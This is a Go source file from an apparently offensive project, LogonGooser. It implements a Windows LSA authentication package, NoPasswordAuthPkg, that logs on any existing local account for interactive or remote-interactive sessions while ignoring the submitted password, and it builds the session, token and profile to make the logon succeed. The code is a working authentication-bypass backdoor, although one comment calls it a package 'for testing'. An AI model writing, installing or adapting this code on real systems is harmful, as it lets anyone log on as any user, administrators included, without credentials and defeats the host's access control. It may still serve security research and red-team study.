// Package nopassword implements NoPasswordAuthPkg, an authentication
// package that logs on any existing local account without checking the
// password.
package nopassword

import (
	"github.com/ineffectivecoder/LogonGooser/pkg/authpkg"
	"github.com/ineffectivecoder/LogonGooser/pkg/lsa"
	"github.com/ineffectivecoder/LogonGooser/pkg/msv1_0"
	"github.com/ineffectivecoder/LogonGooser/pkg/ntstatus"
)

// Name is the package name registered with LSA
const Name = "NoPasswordAuthPkg"

// LogonCount is the fixed logon count reported in the profile
const LogonCount = 42

// GSSOID is the DER body of OID 1.3.6.1.4.1.35000.1
var GSSOID = []byte{0x2B, 0x06, 0x01, 0x04, 0x01, 0x88, 0xB8, 0x01}

// Package is the NoPasswordAuthPkg implementation
type Package struct {
	dir authpkg.Directory
	log *authpkg.Log
	id  uint32
}

// New creates the package
func New(dir authpkg.Directory, log *authpkg.Log) *Package {
	return &Package{dir: dir, log: log}
}

// Initialize is SpInitialize
func (p *Package) Initialize(id uint32, params *authpkg.Parameters) error {
	p.id = id
	p.log.Info("SpInitialize: PackageId %d", id)
	p.log.Debug("Version: %d", params.Version)
	for _, s := range authpkg.MachineStateNames(params.MachineState) {
		p.log.Debug("MachineState: %s", s)
	}
	p.log.Debug("SetupMode: %d", params.SetupMode)
	return nil
}

// Info is SpGetInfo
func (p *Package) Info() authpkg.Info {
	return authpkg.Info{
		Capabilities: lsa.FlagLogon | lsa.FlagClientOnly | lsa.FlagNegotiable,
		Version:      1,
		RPCID:        lsa.IDNone,
		MaxToken:     0,
		Name:         Name,
		Comment:      "Custom authentication package for testing",
	}
}

// ExtendedInformation is SpGetExtendedInformation
func (p *Package) ExtendedInformation(class authpkg.ExtendedInfoClass) (*authpkg.ExtendedInfo, error) {
	switch class {
	case authpkg.ExtendedGSSInfo:
		return &authpkg.ExtendedInfo{Class: class, GSSOID: append([]byte(nil), GSSOID...)}, nil
	case authpkg.ExtendedExtraOIDs:
		return &authpkg.ExtendedInfo{Class: class}, nil
	default:
		return nil, authpkg.Unsupported("SpGetExtendedInformation")
	}
}

// LogonUser is LsaApLogonUser. Any account the directory knows is logged
// on; the password in the submit buffer is ignored.
func (p *Package) LogonUser(d authpkg.Dispatch, req *authpkg.LogonRequest) (*authpkg.LogonResult, error) {
	p.log.Info("LsaApLogonUser: LogonType %s, ProtocolSubmitBuffer size %d", req.LogonType, len(req.SubmitBuffer))

	if err := authpkg.CheckLogonType(req.LogonType, lsa.Interactive, lsa.RemoteInteractive); err != nil {
		p.log.Warning("return STATUS_NOT_IMPLEMENTED (unsupported LogonType)")
		return nil, err
	}

	logon, err := req.DecodeInteractiveLogon()
	if err != nil {
		p.log.Error("Bad submit buffer: %s", err)
		return nil, ntstatus.New("LsaApLogonUser", ntstatus.StatusInvalidParameter)
	}

	computer, err := p.dir.ComputerName()
	if err != nil {
		p.log.Error("return STATUS_INTERNAL_ERROR (GetComputerNameW failed: %s)", err)
		return nil, ntstatus.New("GetComputerNameW", ntstatus.StatusInternalError)
	}

	res := &authpkg.LogonResult{}
	if res.ProfileBuffer, res.ProfileLength, err = p.writeProfile(d, req.ClientLayout(), computer, logon.UserName); err != nil {
		return nil, err
	}

	if res.LogonID, err = authpkg.NewLogonSession(d, p.log); err != nil {
		authpkg.FreeClientBuffer(d, res.ProfileBuffer, p.log)
		return nil, err
	}

	if res.Token, err = authpkg.BuildTokenInformation(p.dir, logon.UserName, p.log); err != nil {
		st := ntstatus.StatusOf(err)
		p.log.Error("UserNameToToken failed with err: 0x%X", uint32(st))
		authpkg.DeleteLogonSession(d, res.LogonID, p.log)
		authpkg.FreeClientBuffer(d, res.ProfileBuffer, p.log)
		return nil, &ntstatus.Error{Op: "LsaApLogonUser", Status: st, SubStatus: st}
	}

	res.AccountName = logon.UserName
	res.AuthenticatingAuthority = logon.LogonDomainName
	p.log.Debug("AccountName: %s", res.AccountName)
	if res.AuthenticatingAuthority == "" {
		p.log.Debug("AuthenticatingAuthority: <empty>")
	} else {
		p.log.Debug("AuthenticatingAuthority: %s", res.AuthenticatingAuthority)
	}

	p.log.Info("return STATUS_SUCCESS")
	return res, nil
}

// Profile builds the interactive profile reported for user
func Profile(user, computer string) *msv1_0.InteractiveProfile {
	return &msv1_0.InteractiveProfile{
		MessageType: msv1_0.MsV1_0InteractiveProfile,
		LogonCount:  LogonCount,
		LogoffTime:  msv1_0.Forever,
		KickOffTime: msv1_0.Forever,
		FullName:    user,
		LogonServer: computer,
	}
}

func (p *Package) writeProfile(d authpkg.Dispatch, l msv1_0.Layout, computer, user string) (uint64, int, error) {
	// The size does not depend on the base, so measure first.
	buf, err := l.EncodeInteractiveProfile(Profile(user, computer), 0)
	if err != nil {
		return 0, 0, ntstatus.New("PrepareProfileBuffer", ntstatus.StatusInvalidParameter)
	}

	addr, err := d.AllocateClientBuffer(len(buf))
	if err != nil {
		p.log.Error("AllocateClientBuffer failed: %s", err)
		return 0, 0, ntstatus.New("AllocateClientBuffer", ntstatus.StatusInsufficientResources)
	}

	if buf, err = l.EncodeInteractiveProfile(Profile(user, computer), addr); err == nil {
		err = d.CopyToClientBuffer(addr, buf)
	}
	if err != nil {
		p.log.Error("CopyToClientBuffer failed: %s", err)
		authpkg.FreeClientBuffer(d, addr, p.log)
		return 0, 0, ntstatus.New("CopyToClientBuffer", ntstatus.StatusInternalError)
	}
	return addr, len(buf), nil
}

// LogonTerminated is LsaApLogonTerminated
func (p *Package) LogonTerminated(d authpkg.Dispatch, id lsa.LUID) {
	p.log.Info("LsaApLogonTerminated: LogonId High=0x%X, Low=0x%X", uint32(id.HighPart), id.LowPart)
}

// CallPackage is not offered by this package
func (p *Package) CallPackage(d authpkg.Dispatch, kind authpkg.CallKind, submit []byte) ([]byte, error) {
	return nil, authpkg.Unsupported(kind.String())
}

// Shutdown is SpShutDown
func (p *Package) Shutdown() error {
	p.log.Info("SpShutDown")
	return nil
}
